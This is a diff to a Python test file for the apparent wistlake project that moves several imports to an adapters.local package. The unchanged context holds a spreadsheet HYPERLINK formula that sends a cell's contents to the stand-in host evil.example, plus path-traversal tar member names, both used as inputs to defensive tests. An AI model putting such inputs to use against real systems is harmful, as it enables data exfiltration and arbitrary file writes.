@@ -23,8 +23,8 @@ from support.lake import START, Lake, Scenario
 from support.some import some
 from wistia_simulator import MediaChange, Profile
 from wistia_simulator.main import Serving, build, running
-from wistlake.adapters import rest_catalog
-from wistlake.adapters.published_catalog import PublishedCatalog
+from wistlake.adapters.local import rest_catalog
+from wistlake.adapters.local.published_catalog import PublishedCatalog
 from wistlake.errors import ConfigError, StoreError
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
@@ -171,7 +171,7 @@ class TestFiles:
 
     @pytest.mark.parametrize("name", ["../outside", "/tmp/wistlake-outside", "lake/../../outside"])
     def test_a_backup_can_not_write_elsewhere(self, name: str, tmp_path: Path) -> None:
-        from wistlake.adapters import lake_archive
+        from wistlake.adapters.local import lake_archive
 
         with tarfile.open(tmp_path / "evil.tar", "w") as archive:
             archive.addfile(tarfile.TarInfo(name), io.BytesIO())
